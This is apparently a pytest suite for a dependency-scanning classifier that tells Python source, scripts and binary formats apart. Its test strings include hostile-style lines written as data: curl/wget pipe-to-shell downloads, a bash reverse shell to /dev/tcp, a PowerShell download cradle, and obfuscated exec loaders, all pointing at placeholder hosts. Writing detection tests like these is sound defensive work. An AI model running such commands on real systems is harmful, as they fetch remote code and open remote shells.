from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pydepgate.payload.classify import Kind, classify

PYTHON = [
    'import os;os.system("x")',
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    'print("hi")',
    "(lambda: print)()()",
    "from a.b import c\nc()",
    "def f(x):\n    return x +\n",
    'import urllib2, os\nprint "x"\nexec code\nexcept_ = 1\n',
    'print "hello"',
    "class A:\n    x = 1\n",
    "for i in range(10): total = total + i",
    "[x for x in y]",
    "__version__ = '1.2'",
    "try:\n    import json\nexcept ImportError, e:\n    raise e\n",
    '"""About this module."""\nNAMES = {"a": 1, "b": 2}\n',
    "#!/usr/bin/env python3\nx",
    "\ufeffimport sys\n",
    "import re\r\nx = re.compile('\\d')\r\n",
    "getattr(__import__('os'), 'sys' + 'tem')('id')",
    "a" * 700 + " = ''\n" + ("a" * 700 + " += 'x'\n") * 4000 + "import zlib\nexec(zlib.decompress(a))\n",
    "__armour__(__name__, __file__, b'PYQ')",
    "print(this one has an error)",
    "_ = lambda __ : __import__('zlib').decompress(__);",
    "data = 'QUJD' * 9\nexec(decode(data))\n",
    "A = '" + "x" * 3_000_000 + "'\nimport os\nexec(A)\nfor a in A:\n    print(a)\n",
]

NOT_PYTHON = [
    "hello",
    "12345",
    "3.14",
    "a, b, c",
    "('alpha', 'beta')",
    "https://example.org/a?b=c",
    "This is a sentence, from which you import nothing at all.",
    "Import duties are high. For more, see the page (in print): it is free.",
    "name: value\nother: 3\n",
    "key: [1, 2]\n",
    "[section]\nkey = value\nother = 2\n",
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
    "a,b,c\n1,2,3\n4,5,6\n",
    "SELECT name FROM users WHERE id = 3;",
    "# Title\n\nSome *text* with `code()` in it.\n\n```python\nimport os\nprint('x')\n```\n\nMore words follow here.\n",
    "^(?:[a-z]+)\\.(com|net)$",
    "user@example.org",
    "alert('x')",
    "rgb(1, 2, 3)",
    "main { color: red; }",
    "if you want to do this, run it:",
    "[1, 2, 3]",
    "GET /index.html HTTP/1.1\nHost: example.org\n",
    ">>> import os\n>>> os.getcwd()\n",
    "#include <stdio.h>\nint main(void) { return 0; }\n",
    "import java.util.List;\npublic class A {\n  int x = 1;\n  void f() { g(); }\n}\n",
]


@pytest.mark.parametrize("text", PYTHON, ids=lambda text: text[:30])
def test_python_source(text: str) -> None:
    assert classify(text.encode()).name == "python-source"


@pytest.mark.parametrize("text", NOT_PYTHON, ids=lambda text: text[:30])
def test_not_python_source(text: str) -> None:
    assert classify(text.encode()).name != "python-source"


def test_python_source_in_its_own_encoding() -> None:
    source = "# -*- coding: latin-1 -*-\nimport os\nname = 'café'\nprint(name)\n"
    assert classify(source.encode("latin-1")).name == "python-source"


def test_python_source_cut_inside_a_character() -> None:
    assert classify("import os\nimport sys\nprint('é".encode()[:-1]).name == "python-source"


def test_warnings_of_the_parser_stay_inside() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert classify(rb"x = foo('\d', lambda: 1 is 1)").name == "python-source"


@pytest.mark.parametrize("text", ["(" * 50_000, "x = " + "-" * 100_000 + "1", "a" + ".b" * 60_000 + "()", "f(" * 3000])
def test_deep_nesting_does_not_crash(text: str) -> None:
    assert classify(text.encode()).name in {"text", "python-source"}


SCRIPTS = [
    ("shell-script", "#!/bin/sh\nls\n"),
    ("shell-script", "curl -fsSL https://example.org/i.sh | sh"),
    ("shell-script", "wget -q http://example.org/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"),
    ("shell-script", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    ("shell-script", 'export A=1\nif [ -f "$HOME/.x" ]; then\n  echo yes\nfi\n'),
    ("powershell", "powershell -NoP -EncodedCommand SQBFAFgA"),
    ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')"),
    ("powershell", "$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 80)\n$s = $client.GetStream()\n"),
    ("batch", "@echo off\r\nset X=1\r\necho %X%\r\n"),
    ("batch", "@ECHO OFF\nstart /b %TEMP%\\a.exe\nexit /b 0\n"),
    ("javascript", "const fs = require('fs');\nfs.readFile('a', (err, data) => { console.log(data); });\n"),
    ("javascript", "#!/usr/bin/env node\nfoo()\n"),
    ("json", '{"a": [1, 2, {"b": null}]}'),
    ("json", "[" * 100_000 + "]" * 100_000),
    ("xml", '<?xml version="1.0"?><a><b/></a>'),
    ("html", "<!DOCTYPE html><html><body>x</body></html>"),
    ("svg", '<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>'),
    ("css", "body { color: #fff; margin: 0 }\n.a:hover { display: none; }\n@media print { a { color: red } }\n"),
    ("text", "Just a few words."),
]


@pytest.mark.parametrize(("name", "text"), SCRIPTS, ids=lambda value: str(value)[:25])
def test_scripts_and_markup(name: str, text: str) -> None:
    assert classify(text.encode()).name == name


def _pe(*, dll: bool = False) -> bytes:
    header = b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80) + b"\0" * 0x40
    return header + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x2022 if dll else 0x22) + b"\0" * 300


def _elf(*, wide: bool = True, machine: int = 0x3E) -> bytes:
    return b"\x7fELF" + bytes([2 if wide else 1, 1, 1]) + b"\0" * 9 + struct.pack("<HH", 3, machine) + b"\0" * 60


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"), io.BytesIO())
    return buffer.getvalue()


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "a")
    return buffer.getvalue()


FERNET = base64.urlsafe_b64encode(b"\x80" + bytes(8) + bytes(range(16)) + bytes(32) + bytes(32))

BINARIES = [
    (Kind("empty"), b""),
    (Kind("pe", "x86-64"), _pe()),
    (Kind("pe", "x86-64 DLL"), _pe(dll=True)),
    (Kind("elf", "x86-64 shared object"), _elf()),
    (Kind("elf", "ARM shared object"), _elf(wide=False, machine=0x28)),
    (Kind("mach-o", "ARM64"), b"\xcf\xfa\xed\xfe" + struct.pack("<II", 0x100000C, 0) + b"\0" * 40),
    (Kind("mach-o", "universal, 2 architectures"), b"\xca\xfe\xba\xbe" + struct.pack(">II", 2, 0x1000007) + b"\0" * 40),
    (Kind("java-class"), b"\xca\xfe\xba\xbe" + struct.pack(">I", 52) + b"\0" * 40),
    (Kind("binary"), b"\xca\xfe\xba\xbe\xfa\xce\xdb\xad" + b"\xde\xca\xf8\x88" * 8),
    (Kind("binary"), b"\xfe\xed\xfa\xce\xde\xad\xbe\xef" * 5),
    (Kind("zip"), _zip()),
    (Kind("tar"), _tar()),
    (Kind("gzip"), gzip.compress(b"a", mtime=0)),
    (Kind("bzip2"), bz2.compress(b"a")),
    (Kind("xz"), lzma.compress(b"a")),
    (Kind("xz", "lzma alone"), lzma.compress(b"a" * 99, format=lzma.FORMAT_ALONE)),
    (Kind("7z"), b"7z\xbc\xaf\x27\x1c" + b"\0" * 30),
    (Kind("rar", "version 5"), b"Rar!\x1a\x07\x01\x00" + b"\0" * 30),
    (Kind("png"), b"\x89PNG\r\n\x1a\n" + b"\0" * 30),
    (Kind("jpeg"), b"\xff\xd8\xff\xe0\x00\x10JFIF\0"),
    (Kind("gif"), b"GIF89a" + b"\0" * 20),
    (Kind("bmp"), b"BM" + struct.pack("<IIII", 100, 0, 54, 40) + b"\0" * 60),
    (Kind("webp"), b"RIFF\x10\0\0\0WEBPVP8 "),
    (Kind("ico"), b"\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0" + struct.pack("<II", 64, 22) + b"\0" * 64),
    (Kind("pdf"), b"%PDF-1.7\n"),
    (Kind("pickle", "protocol 4"), pickle.dumps({"a": 1}, 4)),
    (Kind("pickle", "protocol 0 or 1"), b"cos\ngetpid\n(tR."),
    (Kind("fernet-token"), FERNET),
    (Kind("fernet-token"), FERNET + b"\n"),
    (Kind("binary"), bytes(range(256)) * 4),
]


# without the data: archives hold the time at which they were made
@pytest.mark.parametrize(("kind", "data"), BINARIES, ids=[kind.name for kind, _ in BINARIES])
def test_formats(kind: Kind, data: bytes) -> None:
    assert classify(data) == kind


def test_code_objects() -> None:
    code = marshal.dumps(compile("import os\nx = b'abc'\n", "a.py", "exec"))
    assert classify(code).name == "marshal"
    assert classify(struct.pack("<H", 3495) + b"\r\n" + bytes(12) + code) == Kind("python-bytecode", "CPython 3.11")


@pytest.mark.parametrize(
    "data",
    [
        b"MZ is how some words start, and not a program at all; it goes on for more than sixty-four bytes.",
        b"BM: a note about bitmaps, which goes on for a while.",
        b"class BaseThing: words that are no code object\n" * 3,
        b"cat and mouse.",
        b"0123456789",
        b"gAAAAA is how a token starts",
        b"BZh9 is how bzip2 data start",
        b"PKG is short for package",
    ],
)
def test_a_bare_signature_is_not_enough(data: bytes) -> None:
    assert classify(data).name in {"text", "python-source"}


@given(st.binary(max_size=400))
def test_never_raises(data: bytes) -> None:
    assert classify(data).name


@given(st.sampled_from([data for _, data in BINARIES if data]), st.data())
def test_never_raises_on_damage(data: bytes, draw: st.DataObject) -> None:
    cut = draw.draw(st.integers(1, len(data)))
    place = draw.draw(st.integers(0, cut - 1))
    damaged = bytearray(data[:cut])
    damaged[place] = draw.draw(st.integers(0, 255))
    assert classify(bytes(damaged)).name


@given(st.text(max_size=200))
def test_text_is_never_binary_nor_raises(text: str) -> None:
    printable = "".join(character for character in text if character.isprintable())
    assert classify(printable.encode()).name != "binary"
